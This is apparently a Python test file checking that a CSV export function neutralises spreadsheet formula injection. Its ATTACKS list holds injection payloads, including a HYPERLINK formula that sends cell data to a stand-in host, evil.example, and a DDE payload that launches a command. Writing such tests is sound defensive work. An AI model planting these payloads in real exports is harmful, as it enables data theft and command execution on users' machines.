"""CSV that spreadsheet programs take for nothing but text and numbers."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eventsplatform.spreadsheets import csv_row

FORMULA = tuple("=+-@＝＋－＠")
ATTACKS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    '"=1',
    "＝1",
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "Ada;=1+1",
    "Ada\t=1+1",
    "Ada|@SUM(A1)",
    'Ada;"=1+1"',
    "Ada\n=1+1",
]


def cells(line: str, separator: str) -> list[str]:
    """As a program reads a file whose cells it takes to be separated by this."""
    return [cell for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator) for cell in row]


def formulas(line: str) -> list[str]:
    """The cells that any program would calculate: it may drop white space and quotes before, but no apostrophe."""
    found = [cell for separator in ",;\t|" for cell in cells(line, separator)]
    return [cell for cell in found if cell.lstrip(' "\t\r\n').startswith(FORMULA)]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_starts_a_formula_whatever_separates_cells(text: str) -> None:
    assert formulas(csv_row([1, text, "active"])) == []


@pytest.mark.parametrize("text", ATTACKS)
def test_as_it_stands_each_would_be_one(text: str) -> None:
    """The control."""
    written = io.StringIO()
    csv.writer(written).writerow([1, text, "active"])

    assert formulas(written.getvalue()) != []


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n;,|\"' aＡ＝")))
def test_nor_does_any_text(text: str) -> None:
    assert formulas(csv_row([text, text])) == []


@given(st.text(alphabet=st.characters(exclude_categories=("Cs",), exclude_characters="=+-@\t\r\n＝＋－＠\0")))
def test_what_could_be_no_formula_is_read_back_as_it_was(text: str) -> None:
    assert cells(csv_row([text, "end"]), ",") == [text, "end"]


def test_numbers_are_numbers_and_nothing_is_an_empty_cell() -> None:
    assert csv_row([-1, None, "a"]) == "-1,,a\r\n"


def test_lines_and_quotes_are_those_of_rfc_4180() -> None:
    assert csv_row(['say "hi"', "a,b", "plain"]) == '"say ""hi""","a,b",plain\r\n'
